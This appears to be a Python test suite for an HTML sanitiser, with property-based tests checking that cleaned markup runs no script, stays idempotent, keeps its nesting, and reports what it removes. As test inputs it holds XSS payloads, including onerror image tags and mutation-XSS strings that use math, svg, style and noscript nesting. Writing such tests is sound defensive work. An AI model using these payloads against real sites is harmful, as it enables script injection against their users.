    TAGS,
    st.lists(ATTRIBUTES, max_size=3),
    st.sampled_from([">", ">", ">", "/>", ""]),
)
ENDS = TAGS.map("</{}>".format)
SCRAPS = st.sampled_from(
    ["<!--", "-->", "--!>", "<!-->", "<![CDATA[", "]]>", "<?x", "<!doctype html>", "<", ">", "&lt;", "&", "&#x3c;script&#x3e;", "\n", "\x00", "\x0c", "\r", "text", "x\xa0y", "&#0;", "</",
     "<a\x00>", "<script", "</script >", "<img src=x onerror=x()>", "<svg><style>", "<math><mtext>", "<table><tr>", "\ud800", "é"]
)  # fmt: skip
HTML = st.lists(st.one_of(STARTS, STARTS, ENDS, SCRAPS), max_size=14).map("".join)


@given(HTML, st.booleans())
@example('<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x()&gt;">', False)
@example('<svg></p><style><a id="</style><img src=1 onerror=x()>">', True)
@example('<svg><desc><noscript><p title="</noscript><img src=1 onerror=x()>">', True)
@example("<iframe src=x><script>x()</script></iframe>", True)
def test_nothing_that_is_left_runs(html: str, trusted: bool) -> None:
    assert harm(clean(html, trusted=trusted).html, trusted=trusted) == []


@given(HTML, st.booleans())
def test_what_was_cleaned_once_stays_as_it_is_and_is_not_reported(html: str, trusted: bool) -> None:
    once = clean(html, trusted=trusted).html

    assert clean(once, trusted=trusted) == Cleaned(once, ())


@given(HTML, st.booleans())
@example("</div></li></ul><p>", False)
@example("<li>a<dd>b", True)
def test_what_is_left_stays_within_what_holds_it(html: str, trusted: bool) -> None:
    page = f"<!DOCTYPE html><body><ul><li><div id=holder>{clean(html, trusted=trusted).html}</div><hr id=after></li></ul>"
    body = html5lib.parse(page, namespaceHTMLElements=False).find("body")
    assert body is not None
    item = body.find("ul/li")

    assert (len(body), len(body[0]), [one.get("id") for one in item or ()]) == (1, 1, ["holder", "after"])


@given(HTML, st.booleans())
def test_harm_is_never_taken_out_without_a_word(html: str, trusted: bool) -> None:
    if lost := harm(html, trusted=trusted):
        assert clean(html, trusted=trusted).found, lost


@given(st.text(), st.booleans())
def test_words_stay(text: str, trusted: bool) -> None:
    kept = text.encode("utf-8", "replace").decode().replace("\r\n", "\n").replace("\r", "\n").replace("\x00", "")

    assert unescape(clean(escape(text, quote=False), trusted=trusted).html).replace("\xa0", " ") == kept.replace("\xa0", " ")


def test_html_that_reads_otherwise_each_time_is_handed_over_as_text(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("press.sanitiser.cleaning._cleaned_once", lambda html, _cleaner: f"{html}<b>")
    cleaned = clean("<b>a")

    assert (cleaned.html, [one.code for one in cleaned.found]) == ("&lt;b&gt;a", ["unsafe-html"])


def test_what_stands_in_a_frame_goes() -> None:
    assert clean('<iframe src="/a"><img onerror=x()></iframe>', trusted=True).html == '<iframe src="/a"></iframe>'


def test_elements_too_deep_to_be_read_in_time_are_handed_over_as_text() -> None:
    html = "<div>" * 200_000
    cleaned = clean(html)

    assert (cleaned.html, [one.code for one in cleaned.found]) == (escape(html), ["too-costly"])


def test_formatting_that_would_be_repeated_in_each_paragraph_is_not_read() -> None:
    html = "<p>" + "".join(f"<b id={number}>" for number in range(1000)) + "</p>" + "<p>a</p>" * 1000

    assert [one.code for one in clean(html).found] == ["too-costly"]


def test_a_thousand_quotes_in_one_another_are_read() -> None:
    html = "<blockquote>" * 1000 + "a" + "</blockquote>" * 1000

    assert clean(html) == Cleaned(html, ())


# --- findings -------------------------------------------------------------------------------------


def test_findings_survive_json() -> None:
    told = clean("<script>a</script><foo>").found

    assert tuple(Finding.from_data(json.loads(json.dumps(one.as_data()))) for one in told) == told


SOURCE = """The `<script>` element and onclick handlers.

<Script>a</script> <foo>
<p OnClick = "x">b</p> <foo>

```
<foo>
```
"""


def test_a_finding_stands_where_its_text_occurs_in_the_source() -> None:
    html = "<script>a</script> <foo>\n<p onclick=x>b</p> <foo> <foo>"

    assert [(one.line, one.column, one.code) for one in problems(clean(html).found, SOURCE, 11, "content/a.md")] == [
        (13, 1, "unsafe-html"),
        (13, 20, "html-removed"),
        (14, 4, "unsafe-html"),
        (14, 24, "html-removed"),
        (17, 1, "html-removed"),
    ]


def test_a_finding_that_does_not_occur_in_the_source_is_of_the_whole_file() -> None:
    told = list(problems(clean("<bar>").found, SOURCE, 11, "content/a.md"))

    assert [str(one) for one in told] == [
        "content/a.md: <bar> is not among the elements of texts, and is left out. "
        "Write &lt; where a bracket is meant, or write it in Markdown, or name the source in PRESS_TRUSTED."
    ]


# --- titles ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("html", "title"),
    [
        ("A <em>fine</em> &amp; plain\n title", "A fine & plain title"),
        ("&lt;b&gt; in HTML", "<b> in HTML"),
        ("a<br />b", "a b"),
        ("1 < 2 & AT&T", "1 < 2 & AT&T"),
        ("a<script>b</script><style>c</style>", "a"),
        ("a&#1;b&#x7f;", "a\ufffdb\ufffd"),
        ("<i>" * 1000 + "a", "a"),
    ],
)
def test_a_title_is_plain_text(html: str, title: str) -> None:
    assert plain_title(html) == title
